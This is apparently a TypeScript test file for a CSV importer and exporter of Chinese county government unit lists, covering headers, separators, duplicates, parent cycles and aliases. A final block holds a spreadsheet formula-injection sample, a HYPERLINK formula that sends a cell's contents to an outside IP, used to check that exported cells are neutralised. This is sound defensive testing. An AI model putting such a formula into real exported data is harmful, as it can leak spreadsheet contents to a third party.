import { describe, expect, test } from 'vitest';
import { rowsOfText } from '../../../src/collection/units/rows-of-text.ts';
import { readUnitList, writeUnitList } from '../../../src/collection/units/unit-list.ts';
import { removeSpaces } from '../../../src/lib/fold-text.ts';
import { makeUnit } from '../../support/make-collection.ts';
import { parseCsv } from '../../support/parse-csv.ts';

const COUNTY = makeUnit('清源县人民政府', { kind: 'government' });
const FINANCE = makeUnit('清源县财政局', {
  parent: '清源县人民政府',
  aliases: ['县财政局', '财政局'],
});

function read(text: string): ReturnType<typeof readUnitList> {
  return readUnitList(rowsOfText(text));
}

describe('readUnitList', () => {
  test.each([
    [
      'with the columns that a saved list has',
      '单位,上级,别名\n清源县人民政府,,\n清源县财政局,清源县人民政府,县财政局；财政局\n',
    ],
    [
      'columns in another order, more of them, a title above',
      '清源县单位名单\n\n序号,主管部门,单位名称,备注,简称,曾用名\n1,,清源县人民政府,,,\n2,清源县人民政府,清源县财政局,好,县财政局,财政局\n',
    ],
    [
      'from a spreadsheet, with blanks of every kind',
      '\ufeff序号\t单 位\t上　级\t别名（用；隔开）\r\n1\t清源县人民政府 \t\t-\r\n\t\t\t\r\n2\t清源县\u00a0财政局\t清源县人民政府\t"县财政局\n财政局"\r\n',
    ],
    [
      'other separators',
      '单位,上级,别名\n清源县人民政府,,无\n清源县财政局,清源县人民政府,"县财政局、财政局，县 财政局"',
    ],
    ['no header', '清源县人民政府\n清源县财政局,清源县人民政府,县财政局;财政局'],
    ['no header, numbered', '1\t清源县人民政府\n2\t清源县财政局\t清源县人民政府\t县财政局|财政局'],
  ])('%s', (_, text) => {
    expect(read(text)).toEqual({ units: [COUNTY, FINANCE], problems: [] });
  });

  test.each([
    ['税务局,垂直管理单位', 'vertical'],
    ['税务局,', 'vertical'],
    ['财政局,乡镇', 'township'],
    ['财政局,', 'department'],
  ])('the kind of %s', (row, kind) => {
    expect(read(`单位,类别\n${row}`).units[0]?.kind).toBe(kind);
  });

  test('a parent may be named by its alias', () => {
    const { units, problems } = read('单位,上级,别名\n财政局,县政府,\n清源县人民政府,,县政府');
    expect(units.map(({ parent }) => parent)).toEqual(['清源县人民政府', null]);
    expect(problems).toEqual([]);
  });

  test('nothing at all', () => {
    expect(read('')).toEqual({ units: [], problems: [] });
    expect(read('单位,上级,别名')).toEqual({ units: [], problems: [] });
  });
});

describe('problems name the row', () => {
  test.each([
    ['单位,上级\n,清源县\n', 'name-empty', '第 2 行没有单位名称，没有读入。', 0],
    [
      '单位\n甲局\n乙局\n甲 局',
      'name-duplicate',
      '第 4 行的「甲局」与第 2 行重复，只留第 2 行。',
      2,
    ],
    [
      '单位,上级\n甲局,丙县\n乙局,丙县',
      'parent-unlisted',
      '第 2 行等 2 行的上级「丙县」不在名单里。',
      2,
    ],
    ['单位,上级\n甲局,甲局', 'cycle', '第 2 行的「甲局」以自己为上级，没有采用。', 1],
    [
      '单位,上级\n甲局,乙局\n乙局,丙局\n丙局,甲局',
      'cycle',
      '第 4 行：「丙局」的上级「甲局」又在它之下，没有采用这个上级。',
      3,
    ],
    [
      '单位,别名\n甲局,财政局\n乙局,财政局',
      'alias-shared',
      '第 3 行的别名「财政局」也是「甲局」的名称或别名，单凭它不能认定单位。',
      2,
    ],
  ])('%j', (text, kind, zh, count) => {
    const { units, problems } = read(text);
    expect(problems.map((each) => [each.kind, each.message.zh])).toEqual([[kind, zh]]);
    expect(units).toHaveLength(count);
  });

  test('the same name under different parents takes the place in front', () => {
    const { units, problems } = read(
      '单位,上级\n东湖区人民政府,\n西岭区人民政府,\n财政局,东湖区人民政府\n财政局,西岭区人民政府',
    );
    expect(units.map(({ name, aliases }) => [name, aliases]).slice(2)).toEqual([
      ['东湖区财政局', ['财政局']],
      ['西岭区财政局', ['财政局']],
    ]);
    expect(problems.map(({ kind, row }) => [kind, row])).toEqual([
      ['name-qualified', 4],
      ['name-qualified', 5],
      ['alias-shared', 5],
    ]);
  });
});

test('a list reads back as it was written', () => {
  const units = [
    COUNTY,
    FINANCE,
    makeUnit('"引号",局', { kind: 'vertical' }),
    makeUnit('某', { kind: 'other' }),
  ];
  expect(writeUnitList([FINANCE])).toBe(
    '单位,上级,别名,类别\r\n清源县财政局,清源县人民政府,县财政局；财政局,部门\r\n',
  );
  expect(read(writeUnitList(units))).toEqual({ units, problems: [] });
});

describe('a name that others wrote', () => {
  test.each(['=HYPERLINK("http://192.0.2.1/?"&A1,"点")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1'])(
    '%j is no formula in Excel, and reads back',
    (name) => {
      const written = writeUnitList([makeUnit(name, { aliases: ['=甲局', '-乙'] })]);
      expect(
        parseCsv(written)
          .flat()
          .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
      ).toEqual([]);
      const [unit] = read(written).units;
      expect(unit).toMatchObject({ name: removeSpaces(name), aliases: ['=甲局', '-乙'] });
    },
  );

  test('a file written earlier reads as it did', () => {
    expect(read('单位,上级,别名\r\n=甲局,,+甲\r\n').units).toEqual([
      makeUnit('=甲局', { aliases: ['+甲'] }),
    ]);
  });
});
